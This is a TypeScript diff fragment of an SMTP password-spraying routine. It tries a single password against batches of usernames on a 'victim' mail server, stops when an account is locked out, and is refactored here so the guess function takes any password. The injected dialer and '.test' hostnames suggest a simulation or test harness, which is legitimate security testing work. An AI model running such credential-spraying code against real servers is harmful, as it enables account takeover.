@@ -50,13 +50,20 @@ export async function spray(victim: Victim, localAddress: string): Promise<Spray
   const guesses: Guess[] = [];
   for (let at = 0; at < NAMES.length; at += AT_ONCE) {
     const names = NAMES.slice(at, at + AT_ONCE);
-    guesses.push(...(await Promise.all(names.map((name) => guess(victim, localAddress, name)))));
+    guesses.push(
+      ...(await Promise.all(names.map((name) => guess(victim, localAddress, name, PASSWORD)))),
+    );
     if (guesses.some(({ outcome }) => outcome === 'kept-out')) break;
   }
   return { password: PASSWORD, guesses };
 }
 
-async function guess(victim: Victim, localAddress: string, name: string): Promise<Guess> {
+export async function guess(
+  victim: Victim,
+  localAddress: string,
+  name: string,
+  password: string,
+): Promise<Guess> {
   const { address, ports, hostname, domain, dialer, monotonic, random } = victim;
   const opened = await openSession(
     {
@@ -66,7 +73,7 @@ async function guess(victim: Victim, localAddress: string, name: string): Promis
       serverName: hostname,
       heloName: 'relay.mallory.test',
       tls: 'implicit-unverified',
-      credentials: { username: `${name}@${domain}`, password: PASSWORD },
+      credentials: { username: `${name}@${domain}`, password },
     },
     { dialer, monotonic, randomBytes: random, limits: SMTP_CLIENT_LIMITS },
   );
